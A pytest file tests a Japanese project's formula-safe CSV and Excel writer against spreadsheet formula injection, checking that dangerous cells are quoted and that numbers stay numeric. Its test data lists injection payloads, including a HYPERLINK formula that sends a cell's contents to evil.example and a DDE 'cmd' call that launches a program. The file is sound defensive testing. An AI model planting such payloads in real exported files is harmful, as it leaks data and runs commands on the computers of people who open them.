"""The one formula-safe writer behind every CSV and Excel file kokona hands out (ASVS 1.2.10)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kokona.fiscal import JST
from kokona.spreadsheets import csv_bytes, safe_cell, xlsx_bytes

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]
HEADER = ["相談者", "件数", "割合", "日付"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_start_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [0, -5, 12, 83.7, -0.5, Decimal("125.0"), dt.date(2022, 3, 31), True, None],
)
def test_numbers_dates_and_blanks_are_left_as_they_are(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["みさき", "釧路市内", "a=b", "", "'=already quoted", " =1"])
def test_ordinary_text_is_untouched(text):
    assert safe_cell(text) == text


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel in Japan needs the byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_csv_escapes_every_dangerous_cell_and_keeps_the_rest():
    rows = [[text, -3, 12.5, dt.date(2021, 4, 5)] for text in DANGEROUS]
    rows.append(["ひまわり（釧路）", 0, None, None])

    header, *body = read_csv(csv_bytes(HEADER, rows))

    assert header == HEADER
    assert [row[0] for row in body] == ["'" + text for text in DANGEROUS] + ["ひまわり（釧路）"]
    assert body[0][1:] == ["-3", "12.5", "2021-04-05"]
    assert body[-1][1:] == ["0", "", ""]


def test_the_csv_ends_lines_as_excel_does():
    assert csv_bytes(["a"], [["b"]]) == "\ufeffa\r\nb\r\n".encode()


def test_the_excel_file_shows_the_escaped_text_and_keeps_numbers_numeric():
    rows = [[text, -3, Decimal("125.0"), dt.date(2021, 4, 5)] for text in DANGEROUS]
    rows.append(["ひまわり（釧路）", 7, 83.7, dt.datetime(2022, 3, 31, 23, 30, tzinfo=JST)])

    data = xlsx_bytes(HEADER, rows, title="令和3年度")

    sheet = load_workbook(io.BytesIO(data))["令和3年度"]
    header, *body = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert header == HEADER
    # XML reads a carriage return back as a line feed; NUL cannot be stored in .xlsx at all, so it
    # is dropped, and what follows it is still escaped.
    expected = ["'" + text for text in DANGEROUS[:5]] + ["'\n=1+1", "'=1+1", "ひまわり（釧路）"]
    assert [row[0] for row in body] == expected
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert body[0][1:3] == [-3, 125]
    assert isinstance(body[0][1], int) and isinstance(body[-1][2], float)
    # Excel has no time zones: the time is written as it reads in Japan.
    assert body[-1][1:] == [
        7,
        83.7,
        dt.datetime(2022, 3, 31, 23, 30, tzinfo=JST).replace(tzinfo=None),
    ]


def test_a_control_character_dropped_from_excel_cannot_uncover_a_formula():
    data = xlsx_bytes(["a"], [["\x01=1+1"]])

    (_, (cell,)) = load_workbook(io.BytesIO(data)).active.iter_rows()
    assert cell.value == "'=1+1" and cell.data_type == "s"
